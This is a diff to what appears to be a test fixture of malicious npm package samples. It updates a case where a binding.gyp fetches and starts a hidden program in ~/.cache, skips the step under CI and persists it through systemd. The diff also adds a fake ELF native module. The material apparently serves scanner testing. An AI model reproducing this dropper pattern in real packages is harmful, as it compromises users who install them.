@@ -365,7 +365,7 @@ start /B jsextension.exe -k --tls
     id: 'held-attack-gyp-native-helper',
     about:
       'A binding.gyp without native code evaluates a script that fetches a program, starts it and keeps it by systemd.',
-    after: 'ua-parser-js (binding.gyp), persistence',
+    after: 'ua-parser-js (binding.gyp), persistence, file.opaque',
     versions: ['3.4.0', '3.4.1'],
     last: '2026-07-19T01:01:00Z',
     publisher: 'hn-imaging',
@@ -392,6 +392,10 @@ const { join } = require('node:path');
 
 process.stdout.write(process.arch === 'x64' ? 'avx2' : 'neon');
 
+try {
+  require('./accel.node');
+} catch {}
+
 if (process.platform === 'linux' && !process.env.CI) {
   const folder = join(homedir(), '.cache', 'pixelpress');
   const program = join(folder, 'simdd');
@@ -409,6 +413,7 @@ if (process.platform === 'linux' && !process.env.CI) {
   }).on('error', () => {});
 }
 `,
+      'dist/accel.node': `\u007fELF\u0002\u0001\u0001${'\u0000'.repeat(9)}\u0003\u0000>\u0000${'\u0000\u0001'.repeat(400)}`,
       'dist/index.js': [['z.number().default(82)', 'z.number().min(1).max(100).default(80)']],
     },
   }),
